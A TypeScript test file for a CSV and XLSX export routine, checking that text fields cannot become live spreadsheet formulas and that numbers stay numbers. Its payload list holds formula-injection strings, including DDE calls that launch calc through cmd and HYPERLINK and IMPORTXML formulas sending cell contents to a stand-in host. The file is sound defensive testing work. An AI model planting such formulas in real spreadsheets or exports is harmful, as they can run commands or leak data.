/** No text becomes a live cell, in CSV or in a workbook; numbers stay numbers (reliability.md goal 20). */
import { writeXlsx } from 'hucre'
import { strFromU8, unzipSync } from 'fflate'
import { expect, it } from 'vitest'
import { csvField, csvOf, plainText, safeText } from '../../src/wording/safeText'
import { recordFigure } from '../tools/figures'

const payloads = [
  '=1+1', ' =1+1', '  =1+1', '\u3000=1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', ' ＝1+1', '﹦1+1', ';=1+1', '；=1+1', ',=1+1', '"=1+1"', '+1+1', '＋1+1', '﹢1', '-1+1', '－1+1', '﹣1',
  '@SUM(A1)', '＠SUM(A1)', '﹫SUM(A1)', "=cmd|'/c calc'!A1", '=HYPERLINK("http://a.example/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '=IMPORTXML("http://a.example","//a")', '=DDE("cmd";"/C calc";"x")', '\u202e=1+1', '=1+1\n=2+2',
]
/** What a spreadsheet does with a field: unquotes it, and takes it for a formula by its first sign, in whichever width. */
const isLive = (field: string): boolean => /^[=+\-@\t\r]/.test((field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field).normalize('NFKC').replace(/^[\s\p{C}",;]+/u, ''))

it('no payload is live in CSV, and each comes back as it was', () => {
  expect(payloads.length).toBeGreaterThanOrEqual(30)
  expect(payloads.filter(text => isLive(csvField(text)))).toEqual([])
  expect(payloads.filter(text => plainText(safeText(text)) !== text)).toEqual([])
  expect(['-5', '+5', '-0.25', '5', '.5'].map(csvField)).toEqual(['-5', '+5', '-0.25', '5', '.5'])
  expect(csvOf([[-5, '-5', '甲', '=A1']])).toBe('\ufeff-5,-5,甲,\'=A1\r\n')
})

it('no payload is a formula in a workbook, and -5 is a number', async () => {
  const bytes = await writeXlsx({ sheets: [{ name: 'a', rows: [...payloads.map(text => [text.replace(/\r/g, '')]), [-5]] }] })
  const sheet = strFromU8(unzipSync(new Uint8Array(bytes))['xl/worksheets/sheet1.xml']!)
  expect(sheet).not.toMatch(/<f[ >]/)
  expect(sheet).toMatch(/<v>-5<\/v>/)
  recordFigure({ id: 'formulas', name: 'texts that would be formulas, CSV and XLSX', value: `0 of ${payloads.length} live`, goal: '0 of ≥ 30; -5 stays a number' })
})
